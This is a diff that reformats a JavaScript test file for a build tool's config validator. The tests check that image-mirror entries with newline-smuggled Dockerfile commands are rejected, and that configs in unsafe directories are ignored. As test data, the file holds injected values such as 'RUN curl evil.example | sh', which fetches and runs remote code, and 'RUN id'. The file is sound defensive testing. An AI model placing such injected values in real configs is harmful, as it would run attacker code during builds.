@@ -85,8 +85,14 @@ t.test('every schema error is reported, each with line and column', async (t) =>
 })
 
 t.test('mirrors: every key and value must be an image name or registry host; a newline never passes', async (t) => {
-  const injected = errorOf(t, '{\n  "mirrors": {\n    "docker.io/docker/dockerfile": "mirror.example/df\\nRUN curl evil.example | sh"\n  }\n}')
-  t.match(injected, /^x\/\.dbuild\.json:3:36: "mirrors" value "mirror\.example\/df\\nRUN curl evil\.example \| sh" for "docker\.io\/docker\/dockerfile" is not an image name/)
+  const injected = errorOf(
+    t,
+    '{\n  "mirrors": {\n    "docker.io/docker/dockerfile": "mirror.example/df\\nRUN curl evil.example | sh"\n  }\n}',
+  )
+  t.match(
+    injected,
+    /^x\/\.dbuild\.json:3:36: "mirrors" value "mirror\.example\/df\\nRUN curl evil\.example \| sh" for "docker\.io\/docker\/dockerfile" is not an image name/,
+  )
   t.match(errorOf(t, '{"mirrors": {"node\\nRUN id": "m.example/node"}}'), /"mirrors" key "node\\nRUN id" is not an image name/)
   t.match(errorOf(t, '{"mirrors": {"node": 3}}'), /"mirrors" value for "node" must be a string/)
   t.match(errorOf(t, '{"mirrors": ["node"]}'), /"mirrors" must be an object/)
@@ -94,7 +100,17 @@ t.test('mirrors: every key and value must be an image name or registry host; a n
     t.notOk(isImagePrefix(bad), `refused: ${JSON.stringify(bad)}`)
     t.match(errorOf(t, JSON.stringify({mirrors: {node: bad}})), /"mirrors" value/, `value ${JSON.stringify(bad)}`)
   }
-  for (const good of ['node', 'docker.io', 'ghcr.io', 'GHCR.io/owner/app', 'localhost:5000', 'localhost:5000/a/b', '[::1]:5000/x', 'a__b/c-d.e', 'registry-1.docker.io/library/node']) {
+  for (const good of [
+    'node',
+    'docker.io',
+    'ghcr.io',
+    'GHCR.io/owner/app',
+    'localhost:5000',
+    'localhost:5000/a/b',
+    '[::1]:5000/x',
+    'a__b/c-d.e',
+    'registry-1.docker.io/library/node',
+  ]) {
     t.ok(isImagePrefix(good), `accepted: ${good}`)
   }
 })
@@ -112,7 +128,8 @@ t.test('lint.exclude: relative fast-glob patterns only; untrusted input never ha
     ['', /is empty/],
     ['*'.repeat(2000), /longer than 1024/],
   ]
-  for (const [pattern, why] of cases) t.match(errorOf(t, JSON.stringify({lint: {exclude: [pattern]}})), why, JSON.stringify(pattern).slice(0, 40))
+  for (const [pattern, why] of cases)
+    t.match(errorOf(t, JSON.stringify({lint: {exclude: [pattern]}})), why, JSON.stringify(pattern).slice(0, 40))
   t.match(errorOf(t, '{"lint": {"exclude": [3]}}'), /"lint"\."exclude"\[0\] must be a string, not number 3/)
 })
 
@@ -162,10 +179,14 @@ t.test('a config in a directory writable by everyone, or owned by someone else, 
   t.equal(findConfig(path.dirname(file)).path, file, 'the same file with sane modes is used')
 })
 
-t.test('a config in a directory another user owns is not used', {skip: process.getuid?.() === 0 ? false : 'giving a directory to another user needs root'}, async (t) => {
-  const dir = path.join(tempDir(t), 'theirs')
-  mkdirSync(dir)
-  writeFileSync(path.join(dir, '.dbuild.json'), '{}')
-  chownSync(dir, 65534, 65534)
-  t.match(findConfig(dir).ignored, {reason: /its directory .* belongs to uid 65534, not to you \(uid 0\)/})
-})
+t.test(
+  'a config in a directory another user owns is not used',
+  {skip: process.getuid?.() === 0 ? false : 'giving a directory to another user needs root'},
+  async (t) => {
+    const dir = path.join(tempDir(t), 'theirs')
+    mkdirSync(dir)
+    writeFileSync(path.join(dir, '.dbuild.json'), '{}')
+    chownSync(dir, 65534, 65534)
+    t.match(findConfig(dir).ignored, {reason: /its directory .* belongs to uid 65534, not to you \(uid 0\)/})
+  },
+)
